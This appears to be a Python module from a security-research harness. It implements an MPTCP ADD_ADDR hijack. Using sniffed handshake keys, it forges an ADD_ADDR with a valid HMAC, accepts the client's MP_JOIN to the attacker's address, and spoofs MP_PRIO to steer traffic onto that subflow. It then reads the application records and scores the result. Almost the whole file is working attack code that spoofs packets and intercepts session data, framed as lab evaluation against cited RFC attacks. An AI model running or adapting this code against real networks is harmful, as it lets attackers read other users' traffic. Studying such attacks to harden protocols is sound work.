"""Attack 2, ADD_ADDR hijack: make the client open a subflow to the attacker.

Source: draft-bagnulo-mptcp-attacks §2 and RFC 7430 ("ADD_ADDR Attack"): MPTCP v1 (RFC 8684 §3.4.1) added a
truncated HMAC to ADD_ADDR keyed by the MP_CAPABLE keys, which an attacker who sniffed the first subflow's
handshake can compute.

The attacker forges, on path 1, a segment from the server to the client carrying ADD_ADDR(id 66, 10.0.1.66,
HMAC(Key-server || Key-client, id | address | port)), with the server's in-window sequence numbers. The client's
path manager opens an MP_JOIN subflow to 10.0.1.66; the attacker completes it (SYN-ACK with a valid HMAC) and reads
whatever the client schedules on it; as in attack 1 it demotes path 1 (forged MP_PRIO(backup) to the client) so
that the client's scheduler uses the new subflow, reads some records, then resets it.

Effect measured: the client sent an MP_JOIN SYN to the attacker's address (and the client's `ss` shows the subflow),
the attacker read application records on it.
"""

from __future__ import annotations

import time

from mptcrypt.attacks.common import ACK, spoof_to_client
from mptcrypt.attacks.common import mptcp_opt
from mptcrypt.attacks.judging import decide
from mptcrypt.attacks.rogue import RogueSubflow
from mptcrypt.attacks.runner import Evidence, Verdict
from mptcrypt.wire.mptcp import MptcpOption, add_addr_hmac

NUMBER = 2
TITLE = "ADD_ADDR with a valid HMAC (subflow to the attacker)"
SOURCE = "draft-bagnulo-mptcp-attacks §2; RFC 7430 (ADD_ADDR attack); RFC 8684 §3.4.1"
ADDR_ID = 66
READ_ENOUGH = 24  # records


def attack(agent) -> dict:
    v = agent.view
    if not v.keys_known:
        return {"skipped": "MP_CAPABLE keys not seen"}
    sub = RogueSubflow(agent, "responder", v.port, v.client, 0, addr_id=ADDR_ID)
    sub.pport = None  # learned from the client's SYN
    original = sub.on_segment

    def on_segment(seg) -> None:  # accept the client's join from any source port
        if sub.pport is None and seg.src == v.client and seg.dst == v.me and seg.dport == v.port:
            sub.pport = seg.sport
        original(seg)

    agent.handlers.remove(original)
    agent.handlers.append(on_segment)
    ahmac = add_addr_hmac(v.key_server, v.key_client, ADDR_ID, v.me, 0)
    opt = mptcp_opt(MptcpOption.add_addr(ADDR_ID, v.me, ahmac=ahmac))
    for i in range(3):
        agent.spoof(None, lambda: spoof_to_client(v, ACK, [opt]), "ADD_ADDR", addr=f"{v.me} id {ADDR_ID}",
                    hmac=ahmac.hex())
        agent.pump(time.time() + 0.4, stop=lambda: sub.state != "closed")
        if sub.state != "closed":
            break
    agent.pump(time.time() + 0.3, stop=lambda: sub.state == "established")
    if sub.state == "established":
        prio = mptcp_opt(MptcpOption.mp_prio(True))
        agent.spoof(None, lambda: spoof_to_client(v, ACK, [prio]), "MP_PRIO backup for path 1 (steer to us)")
        agent.pump(time.time() + 1.5, stop=lambda: sum(map(len, sub.records.values())) >= READ_ENOUGH)
        sub.reset()
    agent.rogue = sub
    return {}


def after(agent) -> dict:
    sub = getattr(agent, "rogue", None)
    return {"rogue": sub.report(), "join_syn_from_client": sub.syn_seen_t is not None} if sub is not None else {}


def judge(ev: Evidence) -> Verdict:
    r = ev.result.get("rogue") or {}
    client_saw = "attacker" in ev.paths_ever("client")
    read = sum((r.get("records_read") or {}).values())
    evidence = {
        "client_joined_attacker": bool(ev.result.get("join_syn_from_client")),
        "client_hmac_valid": r.get("peer_hmac_valid"),
        "client_subflow_to_attacker": client_saw,
        "attacker_read_records": read,
        "attacker_read_bytes": r.get("bytes_read", 0),
        "client_MPTcpExt": {k: ev.counter("client", k) for k in ("AddAddr", "AddAddrDrop", "JoinSynTx",
                                                                 "JoinSynAckRx") if ev.counter("client", k)},
    }
    effective = bool(ev.result.get("join_syn_from_client") and (client_saw or r.get("established")))
    effect = (f"client opened a subflow to 10.0.1.66 (HMAC valid: {r.get('peer_hmac_valid')}); "
              f"attacker read {read} records")
    return decide(ev, effective, effect, "ADD_ADDR dropped: the client never tried 10.0.1.66", evidence)
